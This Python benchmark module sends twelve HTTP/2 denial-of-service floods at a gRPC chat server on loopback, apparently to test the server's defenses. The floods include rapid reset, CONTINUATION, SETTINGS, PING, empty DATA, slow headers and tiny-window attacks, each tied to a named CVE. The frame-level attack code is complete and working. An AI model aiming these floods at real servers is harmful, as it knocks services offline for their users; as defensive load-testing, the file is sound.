"""What attackers send: python -m benchmarks.floods ATTACK PORT CONNECTIONS SECONDS

Nothing but the standard library, in a process of its own, so that it does not slow down what is measured
beside it. It goes to the loopback address alone. It ends after so many seconds, when its standard input is
closed, or when it has sent its share, and prints what it did as JSON.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM = 1
END_HEADERS = 4
SEND = "/chat.v1.MessageService/SendMessages"
SUBSCRIBE = "/chat.v1.SubscribeService/Subscribe"
# SubscribeRequest{cursors: [{room_id: "general"}], include_own: true} as a gRPC message. Written out, so that
# this needs nothing installed and starts at once.
_SUBSCRIPTION = b"\0\0\0\0\x0d\x0a\x09\x0a\x07general\x28\x01"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame, RFC 9113, section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def headers(path: str = SEND) -> bytes:
    """The header block of a call, all literal (RFC 7541, section 6.2.2)."""
    block = b""
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("authorization", "Bearer attacker"),
    ):
        block += b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
    return block


class Gone(Exception):
    """The server has closed the connection."""


@dataclass(slots=True)
class Attacker:
    """One connection that does harm.

    Attributes:
        sent: Bytes so far.
        connections: How often it had to connect.
        reads: Whether it reads what the server sends; unread, the server can't say much.
    """

    port: int
    stop: threading.Event
    most_bytes: int
    sent: int = 0
    connections: int = 0
    reads: bool = True
    _socket: socket.socket | None = None

    def connect(self, settings: bytes = b"", *, hello: bool = True) -> None:
        """Open a connection, and say so in HTTP/2."""
        self.close()
        self._socket = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        self.connections += 1
        if hello:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data: bytes) -> None:
        """Send, for as long as the attack lasts.

        Raises:
            Gone: The connection, or the attack, is over.
        """
        assert self._socket
        view = memoryview(data)
        try:
            while view:
                if self.stop.is_set() or self.sent >= self.most_bytes:
                    raise Gone
                if self.reads:
                    self._drain()
                self._socket.settimeout(0.2)
                try:
                    count = self._socket.send(view)
                except TimeoutError:
                    continue
                self.sent += count
                view = view[count:]
        except OSError as exc:
            raise Gone from exc

    def _drain(self) -> None:
        assert self._socket
        self._socket.setblocking(False)
        try:
            while True:
                if not self._socket.recv(1 << 16):
                    raise Gone
        except BlockingIOError:
            return

    def idle(self, seconds: float = 0.05) -> None:
        """Do nothing for a while.

        Raises:
            Gone: The connection, or the attack, is over.
        """
        if self.stop.wait(seconds):
            raise Gone
        if self.reads:
            try:
                self._drain()
            except OSError as exc:
                raise Gone from exc

    def close(self) -> None:
        """Disconnect."""
        if self._socket:
            self._socket.close()
            self._socket = None


# Each attack uses a connection until it is `Gone`; it is then begun again on a new one.


def rapid_reset(attacker: Attacker) -> None:
    """Streams opened and reset at once, CVE-2023-44487."""
    attacker.connect()
    block, cancel = headers(), struct.pack(">I", 8)
    for start in _streams(100):
        attacker.send(
            b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
                for stream in start
            )
        )


def half_open(attacker: Attacker) -> None:
    """Requests begun and never finished, as many as the server takes."""
    attacker.connect()
    block = headers()
    first = next(_streams(100))
    attacker.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in first))
    while True:
        attacker.idle()


def continuation(attacker: Attacker) -> None:
    """Headers that never end, CVE-2024-27316 and its relatives."""
    attacker.connect()
    attacker.send(frame(HEADERS, 0, 1, headers()))
    junk = b"\0\x08x-junk-0\x7f\x81\x7e" + b"j" * (127 + 0x3F01)
    while True:
        attacker.send(frame(CONTINUATION, 0, 1, junk[:16_384]))


def empty_continuation(attacker: Attacker) -> None:
    """Headers that never end and say nothing."""
    attacker.connect()
    attacker.send(frame(HEADERS, 0, 1, headers()))
    many = frame(CONTINUATION, 0, 1) * 1000
    while True:
        attacker.send(many)


def settings(attacker: Attacker) -> None:
    """SETTINGS without end, each of which wants an answer. CVE-2019-9515."""
    attacker.connect()
    many = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500
    while True:
        attacker.send(many)


def settings_unread(attacker: Attacker) -> None:
    """The same, and the answers are not read, so that the server has to keep them."""
    attacker.reads = False
    settings(attacker)


def ping(attacker: Attacker) -> None:
    """PING without end, each of which wants an answer. CVE-2019-9512."""
    attacker.connect()
    many = frame(PING, 0, 0, bytes(8)) * 500
    while True:
        attacker.send(many)


def ping_unread(attacker: Attacker) -> None:
    """The same, and the answers are not read, so that the server has to keep them."""
    attacker.reads = False
    ping(attacker)


def empty_data(attacker: Attacker) -> None:
    """A request in DATA frames that hold nothing and never end, CVE-2019-9518."""
    attacker.connect()
    attacker.send(frame(HEADERS, END_HEADERS, 1, headers()))
    many = frame(DATA, 0, 1) * 1000
    while True:
        attacker.send(many)


def silent(attacker: Attacker) -> None:
    """Connections on which nothing is said; each attacker opens 50 of them."""
    others = [Attacker(attacker.port, attacker.stop, attacker.most_bytes) for _ in range(50)]
    try:
        for other in others:
            other.connect(hello=False)
            attacker.connections += 1
        while True:
            others[0].idle()
    except OSError as exc:
        raise Gone from exc
    finally:
        for other in others:
            other.close()


def slow_headers(attacker: Attacker) -> None:
    """A request of which a byte comes now and then."""
    attacker.connect()
    for byte in frame(HEADERS, END_HEADERS, 1, headers()):
        attacker.send(bytes((byte,)))
        attacker.idle(0.5)


def tiny_window(attacker: Attacker) -> None:
    """Streams whose answers may come one byte at a time, CVE-2019-9511."""
    attacker.connect(struct.pack(">HI", 4, 1))
    block = headers(SUBSCRIBE)
    first = next(_streams(20))
    for stream in first:
        attacker.send(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, _SUBSCRIPTION)
        )
    one = struct.pack(">I", 1)
    while True:
        attacker.send(b"".join(frame(WINDOW_UPDATE, 0, stream, one) for stream in first))
        attacker.idle(0.001)


def _streams(count: int) -> Iterator[range]:
    first = 1
    while first < 2**30:
        yield range(first, first + 2 * count, 2)
        first += 2 * count


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    "rapid reset": rapid_reset,
    "half-open requests": half_open,
    "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation,
    "SETTINGS": settings,
    "SETTINGS, unread": settings_unread,
    "PING": ping,
    "PING, unread": ping_unread,
    "empty DATA": empty_data,
    "silent TCP": silent,
    "slow headers": slow_headers,
    "1-byte window": tiny_window,
}
"""By the names in docs/security.md."""


def run(attack: str, port: int, connections: int, seconds: float, *, most_bytes: int = 4 << 30) -> str:
    """Attack, from so many connections at a time.

    Args:
        most_bytes: How much each may send altogether.

    Returns:
        What was done, as JSON.
    """
    stop = threading.Event()
    attackers = [Attacker(port, stop, most_bytes) for _ in range(connections)]

    def work(attacker: Attacker) -> None:
        while not stop.is_set() and attacker.sent < attacker.most_bytes:
            try:
                ATTACKS[attack](attacker)
            except (Gone, OSError):
                # Refused or thrown out: it comes again, but does not spin.
                stop.wait(0.02)
        attacker.close()

    def wait_for_the_end() -> None:
        sys.stdin.read()
        stop.set()

    threading.Thread(target=wait_for_the_end, daemon=True).start()
    with ThreadPoolExecutor(connections) as pool:
        running = [pool.submit(work, attacker) for attacker in attackers]
        stop.wait(seconds)
        stop.set()
        for each in running:
            each.result()
    return json.dumps(
        {"sent": sum(a.sent for a in attackers), "connections": sum(a.connections for a in attackers)}
    )


if __name__ == "__main__":
    print(run(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
